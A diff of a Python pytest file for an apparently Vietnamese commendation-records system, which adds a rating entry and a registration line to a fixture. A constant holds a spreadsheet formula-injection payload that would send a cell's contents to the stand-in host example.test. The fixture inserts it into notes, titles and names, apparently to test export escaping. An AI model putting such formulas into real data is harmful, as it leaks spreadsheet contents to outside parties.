@@ -26,6 +26,10 @@ from thidua.org.enums import Kind, Level, Scheme, Sector
 from thidua.org.models import Unit
 from thidua.people.actions import begin_post, end_post, open_account
 from thidua.people.enums import Leadership, PostEnd, PostKind, Role
+from thidua.records.actions import Rating, enter_rating
+from thidua.records.enums import Grade
+from thidua.registrations.actions import Line, add_registration
+from thidua.registrations.enums import LineKind
 
 NOW = clock.moment(date(2026, 3, 2), 9)
 FORMULA = '=HYPERLINK("http://example.test/?"&A1,"Xem")'
@@ -152,7 +156,19 @@ def papers(offices: list[Unit]) -> None:
 
 @pytest.fixture
 def groups(offices: list[Unit]) -> None:
-    cluster_ten(offices[1], offices[2], year=2024)
+    enter_rating(
+        Rating(year=2020, unit_id=offices[0].pk, grade=Grade.GOOD, note=FORMULA),
+        actor=SYSTEM,
+        at=NOW,
+    )
+    year = cluster_ten(offices[1], offices[2], year=2024)
+    add_registration(
+        Line(kind=LineKind.INITIATIVE, title=FORMULA),
+        cluster_year_id=year.pk,
+        unit_id=offices[2].pk,
+        actor=SYSTEM,
+        at=NOW,
+    )
     draft_movement(
         launcher_id=offices[0].pk,
         name=FORMULA,
